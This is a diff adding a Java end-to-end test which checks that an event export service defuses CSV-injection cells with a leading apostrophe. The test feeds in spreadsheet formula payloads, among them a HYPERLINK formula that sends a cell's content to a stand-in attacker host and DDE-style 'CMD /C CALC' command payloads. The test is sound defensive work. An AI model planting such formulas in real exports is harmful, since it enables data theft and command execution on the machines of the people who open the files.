@@ -109,6 +109,37 @@ class ConvergenceExportEndToEndTest {
                 .contains("100000000000000000000").contains("-0.00000035").contains("0.000000025");
     }
 
+    /**
+     * A loop's event type and state are written by an outsider; a spreadsheet opening the export runs a cell that
+     * starts with {@code = + - @}, a tab or a carriage return as a formula (CSV injection). Such text cells get a
+     * leading apostrophe (numbers are never text); the JSON export keeps the text exact.
+     */
+    @Test
+    void textThatASpreadsheetWouldRunAsAFormulaIsDefusedInTheCsvOnly() {
+        List<String> attacks = List.of("=HYPERLINK(\"HTTP://ATTACKER.INVALID/?\"&A1,\"CLICK\")",
+                "+CMD|' /C CALC'!A0", "-2+3+CMD|' /C CALC'!A0", "@SUM(1+1)*CMD|' /C CALC'!A0", "\t=1+1", "\r=1+1");
+        StringBuilder events = new StringBuilder("[");
+        for (int i = 0; i < attacks.size(); i++) {
+            events.append(i == 0 ? "" : ",").append("{\"session_id\":\"formulas\",\"iteration\":").append(i + 1)
+                    .append(",\"event_type\":").append(KimiServerExtension.JSON.valueToTree(attacks.get(i)).toString())
+                    .append(",\"state\":").append(KimiServerExtension.JSON.valueToTree(attacks.get(i)).toString()).append('}');
+        }
+        HttpResponse<String> posted = server.post("/api/events", events.append(']').toString());
+        assertThat(posted.statusCode()).as(posted.body()).isEqualTo(200);
+
+        JsonNode stored = json(server.get("/api/export/json?session_id=formulas")).path("events");
+        assertThat(stored.findValuesAsText("event_type")).as("the JSON export keeps the text as stored")
+                .hasSize(attacks.size()).allSatisfy(type -> assertThat(attacks).anyMatch(a -> a.contains(type)));
+        List<List<Field>> records = Rfc4180.read(server.get("/api/export/csv?session_id=formulas").body());
+        assertThat(records).hasSize(1 + attacks.size());
+        for (int i = 0; i < attacks.size(); i++) {
+            List<Field> row = records.get(i + 1);
+            JsonNode event = stored.get(i);
+            assertThat(row.get(4).value()).as("state").isEqualTo("'" + event.path("state").asText());
+            assertThat(row.get(5).value()).as("event type").isEqualTo("'" + event.path("event_type").asText());
+        }
+    }
+
     @Test
     void theJsonExportHoldsTheSessionAndEveryEventAsStored() {
         JsonNode exported = json(server.get("/api/export/json?session_id=" + ID));
